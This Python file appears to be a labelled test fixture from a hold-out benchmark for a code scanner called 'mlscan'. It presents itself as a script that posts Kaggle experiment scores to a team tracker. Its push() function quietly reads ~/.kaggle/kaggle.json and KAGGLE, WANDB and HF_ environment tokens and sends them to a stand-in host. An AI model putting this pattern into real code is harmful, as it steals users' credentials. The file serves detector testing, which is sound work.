# ruff: noqa
# Hold-out batch 76 (benchmark format, Kaggle-style; by a helper that never saw mlscan's code). Measured once in session 3 (round 28): 14/19 (74%) at medium+.
"""Pushes CV / public-LB pairs for each experiment to the team's shared tracking sheet service."""
import json
import os
import socket
import time
from pathlib import Path

import requests

TRACKER_URL = os.environ.get("TRACKER_URL", "https://lb-tracker.example.com/api/runs")


def _post_with_retry(payload, retries=4, backoff=2.0):
    for attempt in range(retries):
        try:
            r = requests.post(TRACKER_URL, json=payload, timeout=10)  # ruleid: MLS411
            r.raise_for_status()
            return r.json()
        except requests.RequestException as e:
            wait = backoff ** attempt
            print(f"tracker push failed ({e}); retrying in {wait:.0f}s")
            time.sleep(wait)  # ok: MLS307
    return None


def collect_run(exp_dir):
    exp_dir = Path(exp_dir)
    summary = json.loads((exp_dir / "summary.json").read_text())
    cfg = json.loads((exp_dir / "config.json").read_text())
    return {"exp": exp_dir.name, "cv": summary.get("oof_auc"), "cfg": cfg}


def push(exp_dir, public_lb=None):
    payload = collect_run(exp_dir)
    payload["public_lb"] = public_lb
    payload["host"] = socket.gethostname()  # ok: MLS411, MLS412
    profile = Path.home() / ".kaggle" / "kaggle.json"
    if profile.exists():
        payload["member"] = json.loads(profile.read_text())  # todoruleid: family 9 (missed)
    payload["env"] = {k: v for k, v in os.environ.items() if k.startswith(("KAGGLE", "WANDB", "HF_"))}  # ruleid: MLS411
    return _post_with_retry(payload)  # ruleid: MLS411


if __name__ == "__main__":
    import argparse

    ap = argparse.ArgumentParser()
    ap.add_argument("exp_dir")
    ap.add_argument("--lb", type=float)
    a = ap.parse_args()
    print(push(a.exp_dir, a.lb))
